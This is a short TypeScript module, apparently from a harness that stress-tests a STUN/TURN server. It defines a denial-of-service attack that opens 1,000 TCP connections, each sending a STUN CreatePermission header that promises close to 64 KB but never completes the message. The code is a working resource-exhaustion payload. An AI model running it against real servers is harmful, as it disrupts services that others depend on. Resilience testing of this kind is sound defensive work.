// TURN over TCP: messages whose head promises 64 KB and that never end, and connections that say nothing.
import type { Attack } from '../attack.ts';
import { crowd, RawSocket } from '../raw-socket.ts';

/** A CreatePermission of the largest length that a head can tell, as if all of it were to come. */
const bytes = Buffer.alloc(60_000);
bytes.writeUInt16BE(0x0008, 0);
bytes.writeUInt16BE(0xfffc, 2);
bytes.writeUInt32BE(0x2112a442, 4);

export const attack: Attack = {
  id: 'v6',
  title: 'TCP messages of 60 KB that never end',
  service: 'stun',
  run: ({ port }) =>
    crowd(async ({ address }) => {
      const socket = await RawSocket.connect(port, address);
      await socket.send(bytes);
      await socket.closed;
    }, 1_000),
};
